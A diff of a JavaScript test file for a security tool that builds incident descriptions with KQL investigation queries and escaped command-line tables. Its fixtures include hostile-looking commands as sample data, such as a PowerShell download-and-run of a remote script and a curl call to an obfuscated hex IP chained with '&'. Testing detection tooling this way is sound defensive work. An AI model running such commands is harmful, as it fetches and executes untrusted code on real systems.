@@ -3,6 +3,7 @@ import { escapeMarkdownCell } from '../../src/sentinel/markdownText.js';
 import { incidentDescription } from '../../src/sentinel/incidentDescription.js';
 import { incidentFor, incidentTitle } from '../../src/sentinel/incidentFor.js';
 import { SENTINEL_LIMITS } from '../../src/sentinel/sentinelLimits.js';
+import { buildInvestigationQuery } from '../../src/query/buildInvestigationQuery.js';
 import { finding } from './sentinelFixtures.js';
 
 describe('escapeMarkdownCell', () => {
@@ -23,6 +24,22 @@ describe('incidentDescription', () => {
     expect(text).toContain('| Hosts (2) | h1, h2 |');
     expect(text).toContain('| Accounts (1) | CONTOSO\\\\alice |');
     expect(text).toContain('| 1 | powershell -c iwr http://203.0.113.5/a.ps1 \\| iex |');
+  });
+
+  it('carries the investigation query in a code block, before the command lines', () => {
+    const f = finding('203.0.113.5', { commandLines: ['curl http://0xcb.0.0x71.5/x & ping 203.0.113.5'], sources: ['defender'] });
+    const text = incidentDescription(f);
+    expect(text).toContain(`\`\`\`kql\n${buildInvestigationQuery(f)}\n\`\`\``);
+    expect(text.indexOf('```kql')).toBeLessThan(text.indexOf('| # | Command line |'));
+    expect(text).toContain('| 1 | curl http://0xcb.0.0x71.5/x &amp; ping 203.0.113.5 |');
+  });
+
+  it('names the bookmark instead of the query when the query would leave no room for a command line', () => {
+    const text = incidentDescription(finding('203.0.113.5'), 1_500);
+    expect(text).not.toContain('```kql');
+    expect(text).toContain('The investigation query (the events behind this IP) is in the bookmark');
+    expect(text).toContain('| 1 | powershell -c iwr http://203.0.113.5/a.ps1 \\| iex |');
+    expect(text.length).toBeLessThanOrEqual(1_500);
   });
 
   it('stays within the service limit and counts the command lines left out', () => {
